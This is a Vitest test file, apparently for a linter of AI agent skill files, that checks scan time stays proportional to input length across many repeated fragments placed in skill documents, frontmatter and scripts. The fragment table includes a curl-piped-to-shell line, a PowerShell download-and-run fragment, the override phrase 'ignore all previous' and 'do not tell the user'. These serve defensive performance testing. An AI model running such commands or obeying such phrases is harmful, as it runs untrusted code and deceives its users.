import { describe, expect, it } from 'vitest'
import { lintSkills } from '../../src/lint/lint.ts'
import { rules } from '../../src/rules/index.ts'
import { memoryTree } from '../support/memory-tree.ts'

/** What a text of somebody who wants skillc to hang may be made of. */
const PIECES: Readonly<Record<string, string>> = {
  newlines: '\n',
  'carriage returns': '\r',
  blanks: ' ',
  'tabs and newlines': '\t\n',
  'a blank and a letter': ' a',
  backticks: '`',
  'odd backticks': '`a``',
  'fence marks': '```\n',
  'open fences': '````sh\n```\n',
  tildes: '~',
  'shell blocks': '!`',
  curl: 'curl ',
  'curl to a shell': 'curl -s https://a.example/x | sh\n',
  'curl into curl': 'curl x | ',
  'command substitutions': '$(',
  expansions: '${',
  'brace lists': '{a,',
  'here documents': 'cat <<A\n',
  'semicolons and ands': 'a && ',
  brackets: '[',
  'link starts': '[a](',
  images: '![a](b)',
  'reference links': '[a][',
  angles: '<',
  'tag starts': '<a ',
  'links of HTML': '<a href="',
  'sources of HTML': '<img src=""',
  'comment starts': '<!--',
  comments: '<!-- a -->',
  'letters and full stops': 'a.',
  'double quotes': '"',
  'single quotes': "'",
  'quotes and commas': '"a",',
  backslashes: '\\',
  hashes: '#',
  headings: '# a\n',
  'heading marks': '# ',
  imports: 'import ',
  'lines of import': 'import a\n',
  'calls in calls': 'f(',
  'lists in lists': '- ',
  'quotes in quotes': '> ',
  dashes: '-',
  'long rules': '---\n',
  equals: '=',
  'keys and values': 'a: b\n',
  assignments: 'a=1\n',
  colons: ':',
  base64: 'QUJDREVGR0hJSktM',
  'hexadecimal escapes': '\\x41',
  'letters in a row': 'a',
  'digits in a row': '1',
  'full stops': '.',
  slashes: '/',
  'ways up': '../',
  addresses: 'https://a.example/',
  'at signs': '@',
  dollars: '$',
  placeholders: '$1 ',
  'misspelt arguments': '$fil ',
  tables: '| a ',
  pipes: '|',
  stars: '*',
  'words of emphasis': '**a ',
  underscores: '_',
  'ignore all': 'ignore all previous ',
  'do not tell the': 'do not tell the user ',
  'comments that suppress': '# skillc-ignore a, ',
  'no-break blanks': '\u00a0',
  'invisible letters': '\u200b',
  'bidi controls': '\u202e',
  'full-width letters': '\uff41',
  'regular expressions': '/a+/.test(x) ',
  'template strings': '`${',
  'words with decorators': '@a\n',
  lambdas: 'lambda: ',
  'powershell words': 'iex (iwr ',
  concatenations: "'a'+",
}

const head = '---\nname: hostile\ndescription: Formats SQL queries. Use for SQL.\narguments: [file]\n---\n# Hostile\n\n'

/** The same stuff, in the files of a skill: each of another reader. */
const PLACES: Readonly<Record<string, (stuff: string) => Record<string, string>>> = {
  'SKILL.md': (stuff) => ({ 'SKILL.md': head + stuff }),
  'a fence': (stuff) => ({ 'SKILL.md': `${head}\`\`\`\`\`\`bash\n${stuff}\n\`\`\`\`\`\`\n` }),
  'the frontmatter': (stuff) => ({ 'SKILL.md': `---\nname: hostile\ndescription: ${stuff}\n---\n# Hostile\n` }),
  'no frontmatter': (stuff) => ({ 'SKILL.md': stuff }),
  'a shell script': (stuff) => ({ 'SKILL.md': head, 'a.sh': stuff }),
  'a Python script': (stuff) => ({ 'SKILL.md': head, 'a.py': `import os\n${stuff}` }),
  'a JavaScript': (stuff) => ({ 'SKILL.md': head, 'a.js': `require('fs')\n${stuff}` }),
  'a PowerShell script': (stuff) => ({ 'SKILL.md': head, 'a.ps1': stuff }),
  'a configuration': (stuff) => ({ 'SKILL.md': head, 'a.json': stuff, 'requirements.txt': stuff, '.gitignore': stuff }),
}

const stuffOf = (piece: string, letters: number) => piece.repeat(Math.ceil(letters / piece.length))
const nested = (letters: number) => Array.from({ length: Math.ceil(Math.sqrt(2 * letters)) }, (_, i) => `${' '.repeat(i)}if a:\n`).join('')

/** The milliseconds of the processor, of which others on a busy machine take none. */
async function took(files: Record<string, string>): Promise<number> {
  const start = process.cpuUsage()
  const { crashes } = await lintSkills(
    [{ kind: 'skill', dir: 'hostile', dirName: 'hostile', fileName: 'SKILL.md', home: 'any', files: memoryTree(files) }],
    rules,
  )
  expect(crashes).toEqual([])
  const { user, system } = process.cpuUsage(start)
  return (user + system) / 1000
}

/** Whether twice the text takes about twice the time. What is over at once says nothing of that, and a busy machine may lie once. */
async function growth(files: (letters: number) => Record<string, string>): Promise<number> {
  let least = Infinity
  for (let i = 0; i < 3 && least > 3.2; i++) {
    // What takes its time already need not be longer.
    let letters = 10_000
    let twice = await took(files(2 * letters))
    if (twice < 400) twice = await took(files(2 * (letters = 75_000)))
    if (twice < 100) return 1
    least = Math.min(least, twice / Math.max(30, await took(files(letters))))
  }
  return least
}

/** What each reader may stumble over. */
const CASES: Readonly<Record<keyof typeof PLACES, string>> = {
  'SKILL.md':
    'newlines, blanks, tabs and newlines, backticks, odd backticks, open fences, shell blocks, curl, curl to a shell, command substitutions, expansions, brackets, link starts, images, angles, tag starts, links of HTML, sources of HTML, comment starts, letters and full stops, double quotes, quotes and commas, hashes, headings, lists in lists, quotes in quotes, long rules, base64, hexadecimal escapes, letters in a row, digits in a row, addresses, placeholders, misspelt arguments, tables, words of emphasis, ignore all, do not tell the, comments that suppress, no-break blanks, invisible letters, bidi controls, full-width letters',
  'a fence': 'newlines, blanks, curl into curl, quotes in quotes, assignments, imports, here documents, concatenations',
  'the frontmatter': 'newlines, blanks, brackets, double quotes, single quotes, colons, dashes, keys and values, long rules, a blank and a letter, hashes',
  'no frontmatter': 'newlines, blanks, dashes, long rules, keys and values, heading marks, open fences',
  'a shell script':
    'newlines, blanks, backticks, backslashes, curl, curl into curl, semicolons and ands, expansions, brace lists, here documents, assignments, double quotes, deep indentation',
  'a Python script':
    'newlines, blanks, tabs and newlines, imports, lines of import, calls in calls, brackets, double quotes, letters and full stops, lambdas, concatenations, words with decorators, hashes, deep indentation',
  'a JavaScript':
    'newlines, blanks, imports, calls in calls, brackets, template strings, regular expressions, letters and full stops, concatenations, slashes, angles, deep indentation',
  'a PowerShell script': 'newlines, blanks, backticks, powershell words, semicolons and ands, assignments, dollars, slashes',
  'a configuration': 'newlines, curl, double quotes, base64, slashes, addresses, at signs',
}

describe.each(Object.entries(CASES))('a hostile text takes time in proportion to its length: %s', (place, pieces) => {
  it.each(pieces.split(', '))(
    '%s',
    async (name) => {
      const stuff = (letters: number) => (name === 'deep indentation' ? nested(letters) : stuffOf(PIECES[name] ?? '', letters))
      expect(stuff(1)).not.toBe('')
      expect(await growth((letters) => (PLACES[place] as (typeof PLACES)[string])(stuff(letters)))).toBeLessThan(3.2)
    },
    60_000,
  )
})
